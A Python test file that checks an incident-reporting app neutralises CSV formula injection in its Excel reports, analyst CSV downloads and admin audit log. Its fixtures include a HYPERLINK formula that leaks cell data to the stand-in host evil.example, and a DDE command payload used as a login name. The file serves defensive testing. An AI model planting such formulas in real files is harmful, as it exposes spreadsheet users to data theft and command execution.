"""Formula injection: imported text and login names reach CSV and Excel files as text, never
as a formula a spreadsheet would run (OWASP CSV injection). Read from the files handed out."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import openpyxl
import pytest

from loaders.incidents import read
from loaders.store import Store
from sdg16.core.filters import Filter
from sdg16.core.spreadsheet import TRIGGERS
from sdg16.queries.db import ReadOnlyDatabase
from sdg16.reports.build import build_report
from sdg16.reports.render import render
from sdg16.state import accounts
from sdg16.state.roles import Role
from testkit.auth import signed_in
from testkit.downloads import capture, fetch
from testkit.fixtures import module_state_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_NAME = "=cmd|'/c calc'!a0"
QUOTED = FORMULA.replace('"', '""')
TEMPLATE = (
    "id,occurred_at,country,incident_types,lat,lon,description,place_name\n"
    f'f1,2020-03-05,EGY,touching,30.0444,31.2357,"{QUOTED}",@SUM(1)\n'
    "f2,2020-03-06,EGY,comments,30.0450,31.2360,+1+1,-2+3\n"
    "f3,2020-03-07,EGY,comments,30.0452,31.2362,plain text,Tahrir\n"
)


def unsafe(value: object) -> bool:
    return isinstance(value, str) and value.startswith(TRIGGERS) and not value[1:2].isdigit()


@pytest.fixture(scope="module")
def formula_store(store_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("formula")
    path = folder / "sdg16.duckdb"
    shutil.copyfile(store_path, path)
    src = folder / "reports.csv"
    src.write_text(TEMPLATE, encoding="utf-8")
    Store(path).apply_incidents(read(src, "template"))
    return path


state_db = module_state_db("ana", "root")


def test_excel_report_holds_imported_formulas_as_text(formula_store: Path) -> None:
    db = ReadOnlyDatabase(formula_store)
    f = Filter(geo=("EGY",), start=None, incident_types=("touching", "comments"))
    report = build_report(
        db, f, None, title="t", author="ana", sections=["summary", "reports_text"]
    )
    book = openpyxl.load_workbook(io.BytesIO(render(report, "xlsx")))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + FORMULA in texts  # the text is kept, behind the apostrophe
    assert not [t for t in texts if unsafe(t)]


def test_analyst_csv_from_the_incident_page_is_neutralised(formula_store: Path) -> None:
    from streamlit.testing.v1 import AppTest

    from testkit.apptest import app_store
    from testkit.auth import as_role
    from testkit.paths import ROOT

    # app_store clears the cached database resource too: with only the data cache cleared,
    # an earlier page test's open store was read and the button was missing (order-dependent).
    with app_store(formula_store), capture() as files:
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
        as_role(at, Role.ANALYST)
        at.query_params["geo"] = "EGY"
        at.switch_page("views/incidents.py").run()
        assert not at.exception
        (button,) = [b for b in at.get("download_button") if "with text" in b.proto.label]
        rows = list(csv.reader(io.StringIO(fetch(button, files).decode("utf-8"))))
    values = [v for row in rows for v in row]
    assert "'" + FORMULA in values and "'@SUM(1)" in values and "'+1+1" in values
    assert not [v for v in values if unsafe(v)]


def test_a_formula_login_name_is_text_in_the_admins_audit_csv() -> None:
    accounts.authenticate(HOSTILE_NAME, "wrong-password-123")
    with capture() as files:
        at = signed_in("root", "admin")
        assert not at.exception
        (button,) = [b for b in at.get("download_button") if "audit log" in b.proto.label]
        rows = list(csv.reader(io.StringIO(fetch(button, files).decode("utf-8"))))
    values = [v for row in rows for v in row]
    assert "'" + HOSTILE_NAME in values
    assert not [v for v in values if unsafe(v)]
